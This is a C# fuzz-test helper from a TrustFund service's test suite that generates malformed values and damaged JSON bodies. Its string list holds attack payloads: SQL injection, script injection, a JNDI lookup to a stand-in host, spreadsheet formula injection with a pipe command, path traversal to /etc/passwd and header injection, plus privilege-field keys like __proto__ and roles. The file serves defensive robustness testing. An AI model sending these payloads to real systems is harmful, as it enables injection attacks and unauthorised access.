using System.Globalization;
using System.Text;
using System.Text.Json.Nodes;

namespace TrustFund.Service.Tests.Hardness;

/// <summary>Values and bodies as no honest client sends them, drawn from one seeded source.</summary>
public sealed class Nasty(Random random)
{
    private static readonly string[] Texts =
    [
        "", " ", "null", "true", "0", "-1", "NaN", "Infinity", "1e999", "2017-02-30", "2017-13-01", "0000-00-00", "9999-12-31", "10000-01-01", "2017-11-09T25:61:61Z",
        "'; DROP TABLE log; --", "' OR 1=1 --", "\" OR \"\"=\"", "<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://x.test/a}", "=1+1", "+1", "-1+1|cmd", "@SUM(A1)",
        "../../etc/passwd", "%00", "\0", "\u0007", "\uFEFF", "\u202E", "\uFFFF", "é", "e\u0301", "😀", "İ", "ﷺ", "ß", "TF-2017-0101", "tf-2017-0101", "TF-2017-0101 ", "mali-tf", "system",
        "trust-fund", "admin", "sponsor-alpha", "ALPHA", "USD", "XOF", "usd", "EUR", "C-2017-003", "PRC-2017-11-20", "Approve", "approve", "Approve, Reject", "\r\nSet-Cookie: a=b",
        "12.345", "99999999999999999999", "-0.01", "1,000.00", "٣", "0x10", "1_000", " 1.00", "1.", ".5",
    ];

    private static readonly string[] Numbers =
        ["0", "-1", "1", "2147483647", "2147483648", "-2147483649", "9223372036854775807", "9223372036854775808", "1e400", "-1e-400", "0.1", "1E5", "123456789012345678901234567890", "-0"];

    public T Of<T>(IReadOnlyList<T> values) => values[random.Next(values.Count)];

    public bool Once(int inSoMany) => random.Next(inSoMany) == 0;

    public int Below(int end) => random.Next(end);

    public string Text()
    {
        if (Once(40))
            return new string((char)random.Next('a', 'z' + 1), random.Next(1, 70_000));
        return Once(6) ? Of(Texts) + Of(Texts) : Of(Texts);
    }

    /// <summary>A text that a header can carry.</summary>
    public string HeaderText() => new([.. Text().Where(letter => letter is >= ' ' and <= '~').Take(3_000)]);

    /// <summary>The body of an example, damaged somewhere: as a value, or as a text.</summary>
    public string Body(JsonObject example)
    {
        var body = example.DeepClone();
        for (var times = random.Next(3); times >= 0; times--)
            body = Damaged(body);
        var text = body.ToJsonString();
        return Once(3) ? Garbled(text) : text;
    }

    private JsonNode Damaged(JsonNode body)
    {
        var places = Places(body).ToList();
        if (places.Count == 0 || Once(30))
            return Value(0) ?? new JsonArray();
        switch (Of(places))
        {
            case (JsonObject holder, string name):
                Damage(holder, name);
                break;
            case (JsonArray list, int index):
                if (Once(4))
                    list.RemoveAt(index);
                else if (Once(4))
                    list.Add(list[index]?.DeepClone());
                else
                    list[index] = Value(0);
                break;
        }

        return body;
    }

    private void Damage(JsonObject holder, string name)
    {
        switch (random.Next(6))
        {
            case 0:
                holder.Remove(name);
                break;
            case 1:
                holder[Of(["extra", "$type", "__proto__", "", "Proposal", name.ToUpperInvariant(), "isSystem", "isHistory", "roles", "at"])] = Value(0);
                break;
            default:
                holder[name] = Value(0);
                break;
        }
    }

    private JsonNode? Value(int depth) => random.Next(depth > 2 ? 5 : 8) switch
    {
        0 => null,
        1 => JsonValue.Create(Once(2)),
        2 => JsonNode.Parse(Of(Numbers)),
        3 or 4 => JsonValue.Create(Well(Text())),
        5 => new JsonArray([.. Enumerable.Range(0, random.Next(Once(20) ? 300 : 4)).Select(_ => Value(depth + 1))]),
        6 => new JsonObject { ["amount"] = Well(Text()), ["currency"] = Well(Text()) },
        _ => new JsonObject { [Well(Text())] = Value(depth + 1) },
    };

    private string Garbled(string text) => random.Next(8) switch
    {
        0 => text[..random.Next(text.Length)],
        1 => text.Insert(random.Next(text.Length), Of(["\"", "{", "}", ",", "\\ud800", "\\", "\0", "//", "é", "\u2028"])),
        2 => text.Replace("\":", "\":\"\\ud83d\",\"x\":", StringComparison.Ordinal),
        3 => text.TrimEnd('}') + ",\"extra\":" + string.Concat(Enumerable.Repeat("[", random.Next(5, 200))) + "}",
        4 => text.TrimEnd('}') + "," + text.TrimStart('{'),
        5 => new StringBuilder(text).Remove(random.Next(text.Length), 1).ToString(),
        6 => Once(20) ? new string(' ', 1_100_000) + text : "\uFEFF" + text,
        _ => string.Create(CultureInfo.InvariantCulture, $"{text}{text}"),
    };

    // A lone surrogate cannot be written as JSON here; those go in as escapes.
    private static string Well(string text) => new([.. text.Where(letter => !char.IsSurrogate(letter))]);

    private static IEnumerable<(JsonNode Holder, object Name)> Places(JsonNode? node) => node switch
    {
        JsonObject record => record.SelectMany(field => Places(field.Value).Prepend((record, field.Key))),
        JsonArray list => list.SelectMany((item, index) => Places(item).Prepend((list, index))),
        _ => [],
    };
}
